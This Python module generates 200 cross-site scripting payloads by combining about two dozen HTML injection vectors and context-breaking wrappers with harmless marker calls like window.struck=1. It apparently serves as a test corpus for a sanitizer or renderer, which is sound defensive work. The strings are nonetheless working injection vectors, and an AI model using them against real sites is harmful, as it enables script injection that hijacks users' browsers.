"""Two hundred ways to slip a script into a page, each telling ``window.struck`` when it runs."""

from __future__ import annotations

from itertools import islice, product

_STRIKE = "window.struck=1"
_CALLS = (_STRIKE, "alert(1)", "top.struck=1", "self['stru'+'ck']=1", "eval('window.struck=1')")
_HANDLED = (
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}//",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<marquee onstart={call}>x</marquee>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src='javascript:{call}'></iframe>",
    "<object data='javascript:{call}'></object>",
    "<embed src='javascript:{call}'>",
    "<script>{call}</script>",
    "<script src='data:text/javascript,{call}'></script>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<a href='javascript:{call}' autofocus onfocus={call} tabindex=1>x</a>",
    "<form action='javascript:{call}'><input type=submit autofocus onfocus={call}></form>",
    "<template><img src=x onerror={call}></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<style>@import 'javascript:{call}';</style><img src=x onerror={call}>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<link rel=stylesheet href='data:text/css,*{{color:red}}'><img src=x onerror={call}>",
    "<base href='javascript:{call}//'>",
)
_WRAPPED = (
    "{markup}",
    "\"'><!-- -->{markup}",
    "</p></title></textarea></style></script>{markup}",
    "[words]({markup})",
    "`code` {markup} **strong {markup}**",
    "![alt](javascript:{call}) [link](javascript:{call}) {markup}",
    "{{{{constructor.constructor('{call}')()}}}} ${{{call}}} {markup}",
    "&lt;img src=x onerror={call}&gt; {markup}",
)


def payloads(count: int = 200) -> list[str]:
    """So many different ones."""
    found = []
    for wrapped, handled, call in product(_WRAPPED, _HANDLED, _CALLS):
        found.append(wrapped.format(markup=handled.format(call=call), call=call))
    # far apart in the list, so that every wrapping, tag and call is among them
    return list(islice((found[at * 7 % len(found)] for at in range(len(found))), count))
